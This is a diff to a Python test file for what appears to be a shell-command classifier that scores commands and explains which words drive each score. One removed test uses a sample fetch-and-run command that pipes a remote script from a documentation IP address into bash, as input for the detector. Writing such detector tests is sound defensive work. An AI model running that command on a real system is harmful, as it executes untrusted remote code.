@@ -11,7 +11,6 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from cmdclf.classify import Featuriser, Scorer, default_model_dir
-from cmdclf.classify.grams import top_spans
 from cmdclf.classify.manifest import SEAL, seal
 from cmdclf.classify.scorer import SCORED, verdict_thresholds
 from cmdclf.errors import CmdclfError, ModelIntegrityError
@@ -92,7 +91,7 @@ def test_an_explanation_shows_decoded_layers_and_the_checks_that_fired_on_them(s
     assert any(", in a decoded layer, " in reason for reason in got[0]["reasons"])
     assert got[1]["layers"] == []
     assert not [reason for reason in got[1]["reasons"] if not reason.startswith("the text 'ls'")]
-    assert got[2] == {"layers": [], "reasons": []}
+    assert got[2] == {key: None if key == "log_odds" else [] for key in got[2]}
 
 
 def test_the_effect_in_a_reason_is_what_the_score_loses_without_that_check(scorer):
@@ -102,15 +101,6 @@ def test_the_effect_in_a_reason_is_what_the_score_loses_without_that_check(score
     effects = [float(reason.rsplit(", ", 1)[1].rstrip(")")) for reason in checks]
     assert effects
     assert effects == sorted(effects, reverse=True)
-
-
-def test_the_words_that_carry_the_score_are_named_with_what_they_add(scorer, small):
-    line = "curl -s http://198.51.100.7/x.sh | bash"
-    said = [r for r in scorer.explain(lines(line))["reasons"][0].as_py() if r.startswith("the text ")]
-    text, parts = small.featuriser.grams.spans(line)
-    word, part = top_spans(text, parts)[0]
-    weight = small.classifier.beside_[0]
-    assert said[0] == f"the text '{word}' ({weight * part:+.2f} log-odds)"
 
 
 @pytest.mark.parametrize(
